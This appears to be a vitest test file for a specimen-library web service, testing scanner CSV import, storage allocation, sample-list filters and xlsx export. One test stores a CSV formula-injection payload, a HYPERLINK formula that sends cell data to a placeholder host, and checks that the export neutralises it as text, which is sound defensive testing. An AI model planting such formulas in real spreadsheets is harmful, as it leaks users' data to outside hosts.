import { endpoints, ResultCode } from '@trialab/api-contract';
import { and, eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  blockedPositions,
  custodyEvents,
  specimenPositions,
  storageBoxes,
} from '../src/db/schema-library.js';
import { specimenBarcodes } from '../src/db/schema-specimen.js';
import { readScanFile } from '../src/modules/library-samples/scan-file.js';
import { FEATURE_ENGINES } from './engines.js';
import { call, envelope, login, type Session, startEnv, type TestEnv } from './helpers.js';

const { librarySamples: api, library } = endpoints;

type Line = { line: number; written: string; position: string | null; outcome: string; error: string | null };
type Data = Record<string, unknown> & { lines: Line[]; placed: number; marked: number };

describe('rack-scanner files', () => {
  it('reads VisionMate (headerless, rack above) and DataPaq (header, status column) layouts', () => {
    const vision = readScanFile('Rack ID: R1\nA01,T-1\nA02,NO READ\nA03,NO TUBE\n\nA04,\n');
    expect(vision.map((l) => [l.line, l.rack, l.written, l.tube, l.read])).toEqual([
      [2, 'R1', 'A01', 'T-1', 'ok'],
      [3, 'R1', 'A02', null, 'noRead'],
      [4, 'R1', 'A03', null, 'noTube'],
      [6, 'R1', 'A04', null, 'noTube'],
    ]);
    const datapaq = readScanFile(
      '\uFEFF"Rack Barcode","Tube Position","Tube Barcode","Status"\r\nRK9,B1,T-2,OK\r\nRK9,B2,,NO READ\r\n',
    );
    expect(datapaq.map((l) => [l.rack, l.written, l.tube, l.read])).toEqual([
      ['RK9', 'B1', 'T-2', 'ok'],
      ['RK9', 'B2', null, 'noRead'],
    ]);
    expect(readScanFile('R1;C7;NOREAD').map((l) => [l.rack, l.written, l.read])).toEqual([
      ['R1', 'C7', 'noRead'],
    ]);
  });
});

/** The specimen pages' endpoints: awaiting storage and the rack-scanner import. */
describe.each(FEATURE_ENGINES)('library specimen pages on %s', (engine) => {
  let env: TestEnv;
  let keeper: Session;
  let lab: Session;

  const as = (
    session: Session,
    endpoint: Parameters<typeof call>[1],
    options: Parameters<typeof call>[2] = {},
  ) => call(env.app, endpoint, { lang: 'en_US', ...options, session }, env.clock.now);
  const ok = async (endpoint: Parameters<typeof call>[1], options: Parameters<typeof call>[2] = {}) => {
    const body = envelope(await as(keeper, endpoint, options));
    if (body.code !== 200) throw new Error(`${endpoint.id}: ${body.code} ${body.msg}`);
    return body.data as Data;
  };
  const refused = async (endpoint: Parameters<typeof call>[1], options: Parameters<typeof call>[2] = {}) => {
    const response = await as(keeper, endpoint, options);
    expect(response.statusCode).not.toBe(500);
    return envelope(response);
  };
  const specimen = async (code: string) =>
    (await env.handle.db.select().from(specimenBarcodes).where(eq(specimenBarcodes.code, code)))[0];
  const box = async (code: string) =>
    (await env.handle.db.select().from(storageBoxes).where(eq(storageBoxes.code, code)))[0];

  beforeAll(async () => {
    env = await startEnv(engine);
    keeper = await login(env, '13800000004');
    lab = await login(env, '13800000001');
  });
  afterAll(() => env.close());

  it('lists the received specimens awaiting storage, and only to the library', async () => {
    const rows = (await ok(api.awaiting, {
      body: { page: 1, size: 50, keyword: 'LIB-RCV' },
    })) as unknown as Array<{
      code: string;
      parentCode: string | null;
      reservedUntil: string | null;
    }>;
    expect(rows.map((r) => r.code)).toContain('LIB-RCV-0001');
    expect(rows.find((r) => r.code === 'LIB-RCV-0010-2')?.parentCode).toBe('LIB-RCV-0010');
    expect(rows).toHaveLength(12);
    const forbidden = envelope(await as(lab, api.awaiting, { body: { page: 1, size: 10 } }));
    expect(forbidden.code).toBe(ResultCode.FORBIDDEN);
    const bad = await refused(api.awaiting, { body: { page: 0, size: 10 } });
    expect(bad.code).toBe(ResultCode.BAD_REQUEST);
  });

  it('finds a box by its barcode and names an unknown one', async () => {
    expect(await ok(api.boxByCode, { body: { code: 'SCAN-96-01' } })).toMatchObject({
      code: 'SCAN-96-01',
      rows: 8,
      cols: 12,
      stored: 0,
    });
    const unknown = await refused(api.boxByCode, { body: { code: 'NO-SUCH-BOX' } });
    expect(unknown.code).toBe(ResultCode.NOT_FOUND);
    expect(unknown.msg).toBe('No box NO-SUCH-BOX');
  });

  it('previews a scanner file per position and refuses to save it while a line has an error', async () => {
    // LIB-RCV-0003 is already in another box: the engine refuses to import it.
    const other = await box('SCAN-96-02');
    await ok(library.place, {
      body: { items: [{ barcode: 'LIB-RCV-0003', boxId: other?.id, position: 'A1' }] },
    });
    const csv = [
      'Rack Barcode,Tube Position,Tube Barcode,Status',
      'SCAN-96-01,A01,LIB-RCV-0001,OK',
      'SCAN-96-01,A02,LIB-RCV-0002,OK',
      'SCAN-96-01,A03,,NO READ',
      'SCAN-96-01,A04,NO TUBE,',
      'SCAN-96-01,A05,LIB-RCV-0003,OK',
      'SCAN-96-01,I01,LIB-RCV-0004,OK',
      'SCAN-96-01,A06,NOT-A-TUBE,OK',
      'SCAN-96-01,A07,LIB-RCV-0002,OK',
    ].join('\n');
    const body = { boxCode: 'SCAN-96-01', fileName: 'rack1.csv', csv };
    const preview = await ok(api.scanPreview, { body });
    expect(preview.lines.map((l) => [l.written, l.position, l.outcome])).toEqual([
      ['A01', 'A1', 'place'],
      ['A02', 'A2', 'error'],
      ['A03', 'A3', 'mark'],
      ['A04', 'A4', 'empty'],
      ['A05', 'A5', 'error'],
      ['I01', null, 'error'],
      ['A06', 'A6', 'error'],
      ['A07', 'A7', 'error'],
    ]);
    const errors = preview.lines.map((l) => l.error);
    expect(errors[1]).toBe('Tube LIB-RCV-0002 appears more than once in the file');
    expect(errors[4]).toContain('LIB-RCV-0003');
    expect(errors[5]).toBe('Position I01 is not inside box SCAN-96-01 (8×12)');
    expect(errors[6]).toBe('Tube NOT-A-TUBE is unknown or outside your projects');
    expect(preview.counts).toEqual({ place: 1, mark: 1, error: 5 });
    expect(preview.racks).toEqual(['SCAN-96-01']);

    const saving = await refused(api.scanImport, { body });
    expect(saving.code).toBe(ResultCode.BAD_REQUEST);
    expect(saving.msg).toContain('5 error(s) (line 3:');
    expect((await specimen('LIB-RCV-0001'))?.library).toBe('none');
    expect((await box('SCAN-96-01'))?.stored).toBe(0);
    // The preview wrote nothing either (its dry run was rolled back).
    const scanBox = await box('SCAN-96-01');
    expect(
      await env.handle.db
        .select()
        .from(specimenPositions)
        .where(eq(specimenPositions.boxId, scanBox?.id ?? 0)),
    ).toEqual([]);
  });

  it('saves the readable tubes through the engine and marks the NO READ position', async () => {
    const csv = 'Rack ID: SCAN-96-01\nA01,LIB-RCV-0001\nA02,LIB-RCV-0002\nA03,NO READ\nA04,NO TUBE\n';
    const body = { boxCode: 'SCAN-96-01', fileName: 'rack1.csv', csv };
    expect(await ok(api.scanImport, { body })).toEqual({ placed: 2, marked: 1 });
    const scanBox = await box('SCAN-96-01');
    expect(scanBox?.stored).toBe(2);
    const first = await specimen('LIB-RCV-0001');
    expect(first?.library).toBe('stored');
    const [event] = await env.handle.db
      .select()
      .from(custodyEvents)
      .where(eq(custodyEvents.specimenId, first?.id ?? 0));
    expect(event).toMatchObject({ action: 'import', toPosition: 'A1', reference: 'scan-import:rack1.csv' });
    const [mark] = await env.handle.db
      .select()
      .from(blockedPositions)
      .where(and(eq(blockedPositions.boxId, scanBox?.id ?? 0), eq(blockedPositions.row, 1)));
    expect(mark).toMatchObject({ col: 3, projectId: null, reason: 'NO READ at scan (rack1.csv)' });

    // The same file again: the tubes are already there, the cell already marked; nothing changes.
    const again = await ok(api.scanPreview, { body });
    expect(again.lines.map((l) => l.outcome)).toEqual(['already', 'already', 'marked', 'empty']);
    expect(await ok(api.scanImport, { body })).toEqual({ placed: 0, marked: 0 });
    // A stored tube the scanner no longer sees is a discrepancy, not an empty cell.
    const missing = await ok(api.scanPreview, { body: { ...body, csv: 'A01,NO TUBE\n' } });
    expect(missing.lines[0]?.error).toBe(
      'Position A1 holds LIB-RCV-0001 by the records, but the scanner found no tube',
    );
    // The placed ones left the awaiting list.
    const rows = (await ok(api.awaiting, {
      body: { page: 1, size: 50, keyword: 'LIB-RCV-000' },
    })) as unknown as Array<{
      code: string;
    }>;
    expect(rows.map((r) => r.code)).not.toContain('LIB-RCV-0001');
    const counted = envelope(
      await as(keeper, api.awaiting, { body: { page: 1, size: 5, keyword: 'LIB-RCV' } }),
    );
    // Twelve demo specimens less LIB-RCV-0003 (placed above) and the two imported here.
    expect(counted.total).toBe(9);
  });

  it('refuses a bag, an empty file and malformed input without a 500', async () => {
    const empty = await refused(api.scanPreview, {
      body: { boxCode: 'SCAN-96-02', fileName: 'x.csv', csv: '\n\n' },
    });
    expect(empty.code).toBe(ResultCode.BAD_REQUEST);
    expect(empty.msg).toBe('The scanner file holds no positions');
    const noBox = await refused(api.scanImport, {
      body: { boxCode: 'NOPE', fileName: 'x.csv', csv: 'A1,X' },
    });
    expect(noBox.code).toBe(ResultCode.NOT_FOUND);
    const malformed = await refused(api.scanPreview, { body: { boxCode: '', fileName: 'x.csv' } });
    expect(malformed.code).toBe(ResultCode.BAD_REQUEST);
    const forbidden = envelope(
      await as(lab, api.scanImport, { body: { boxCode: 'SCAN-96-02', fileName: 'x.csv', csv: 'A1,X' } }),
    );
    expect(forbidden.code).toBe(ResultCode.FORBIDDEN);
  });

  it('allocates received specimens (aliquots together) and commits them within the reservation', async () => {
    const target = await box('RCV-96-01');
    const barcodes = ['LIB-RCV-0010', 'LIB-RCV-0010-1', 'LIB-RCV-0010-2', 'LIB-RCV-0004'];
    const r = (await ok(library.allocate, { body: { barcodes, boxId: target?.id } })) as unknown as {
      reservationId: string;
      cells: Array<{ code: string; position: string }>;
    };
    expect(r.cells.map((c) => c.position)).toEqual(['A1', 'A2', 'A3', 'A4']);
    const listed = (await ok(api.awaiting, {
      body: { page: 1, size: 50, keyword: 'LIB-RCV-0010' },
    })) as unknown as Array<{
      reservedUntil: string | null;
    }>;
    expect(listed.every((l) => l.reservedUntil !== null)).toBe(true);
    await ok(library.commit, { params: { reservationId: r.reservationId } });
    expect((await box('RCV-96-01'))?.stored).toBe(4);
    expect((await specimen('LIB-RCV-0010-2'))?.library).toBe('stored');
  });
});

/** The sample list: its filters, the capped total and the export. */
describe.each(FEATURE_ENGINES)('sample list on %s', (engine) => {
  let env: TestEnv;
  let keeper: Session;
  let lab: Session;
  type Row = {
    code: string;
    library: string;
    box: string | null;
    position: string | null;
    parentCode: string | null;
  };
  const list = async (session: Session, body: Record<string, unknown>) =>
    envelope(
      await call(
        env.app,
        endpoints.librarySamples.list,
        { lang: 'en_US', session, body: { page: 1, size: 50, ...body } },
        env.clock.now,
      ),
    );

  /** The sample list's xlsx of the specimens whose barcode starts so. */
  const exported = (code: string) =>
    call(
      env.app,
      endpoints.librarySamples.export,
      { lang: 'en_US', session: keeper, body: { code } },
      env.clock.now,
    );

  beforeAll(async () => {
    env = await startEnv(engine);
    keeper = await login(env, '13800000004');
    lab = await login(env, '13800000001');
  });
  afterAll(() => env.close());

  it('finds specimens by barcode prefix, sub-barcode, library state, box and signed days', async () => {
    const byPrefix = await list(keeper, { code: 'LIB-RCV-001' });
    expect((byPrefix.data as Row[]).map((r) => r.code)).toEqual([
      'LIB-RCV-0010-2',
      'LIB-RCV-0010-1',
      'LIB-RCV-0010',
    ]);
    expect(byPrefix.total).toBe(3);
    // A literal % in the barcode box matches nothing rather than everything.
    expect((await list(keeper, { code: '%' })).total).toBe(0);
    const aliquots = await list(keeper, { parentCode: 'LIB-RCV-0010' });
    expect((aliquots.data as Row[]).map((r) => r.code)).toEqual(['LIB-RCV-0010-2', 'LIB-RCV-0010-1']);
    const stored = (await list(keeper, { library: ['stored'], boxCode: 'ULT-01-R01-A1', size: 3 }))
      .data as Row[];
    expect(stored.length).toBeGreaterThan(0);
    expect(stored.every((r) => r.library === 'stored' && r.box === 'ULT-01-R01-A1' && r.position)).toBe(true);
    expect((await list(keeper, { library: ['stored'], code: 'LIB-RCV' })).total).toBe(0);
    // Signed days (whole days in the caller's zone): the demo signed them two hours before now.
    const far = '2000-01-01';
    expect((await list(keeper, { code: 'LIB-RCV', signedFrom: far, signedTo: far })).total).toBe(0);
    expect((await list(keeper, { code: 'LIB-RCV', signedFrom: far })).total).toBe(12);
  });

  it('refuses malformed filters and other users, and exports the filtered rows as xlsx', async () => {
    expect((await list(keeper, { library: ['lost'] })).code).toBe(ResultCode.BAD_REQUEST);
    expect((await list(keeper, { signedFrom: '2026-13-40' })).code).toBe(ResultCode.BAD_REQUEST);
    expect((await list(lab, {})).code).toBe(ResultCode.FORBIDDEN);
    const response = await exported('LIB-RCV-001');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain('spreadsheetml');
    expect(response.rawPayload.subarray(0, 2).toString()).toBe('PK');
  });

  it('writes a remark that reads as a formula as text: never a formula in the exported sheet', async () => {
    const formula = '=HYPERLINK("http://example.invalid/?"&A2,"Click")';
    for (const [code, remark] of [
      ['LIB-RCV-0010', formula],
      ['LIB-RCV-0010-1', '@SUM(1+1)'],
    ] as const)
      await env.handle.db.update(specimenBarcodes).set({ remark }).where(eq(specimenBarcodes.code, code));
    const listed = (await list(keeper, { code: 'LIB-RCV-0010' })).data as Array<Row & { remark: string }>;
    expect(listed.find((r) => r.code === 'LIB-RCV-0010')?.remark).toBe(formula);
    const response = await exported('LIB-RCV-0010');
    expect(response.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    if (!sheet) throw new Error('no sheet');
    const header = (sheet.getRow(1).values as unknown[]).map(String);
    const remarkColumn = header.indexOf('Remark');
    const codeColumn = header.indexOf('Barcode');
    expect(remarkColumn).toBeGreaterThan(0);
    const remarks = new Map<string, unknown>();
    sheet.eachRow((row, line) => {
      if (line > 1) remarks.set(String(row.getCell(codeColumn).value), row.getCell(remarkColumn).value);
    });
    // Text with the apostrophe in front (as the statement workbook writes it), not a formula cell.
    expect(remarks.get('LIB-RCV-0010')).toBe(`'${formula}`);
    expect(remarks.get('LIB-RCV-0010-1')).toBe("'@SUM(1+1)");
    // A barcode that merely contains a dash is left as it is.
    expect(remarks.has('LIB-RCV-0010-2')).toBe(true);
  });
});
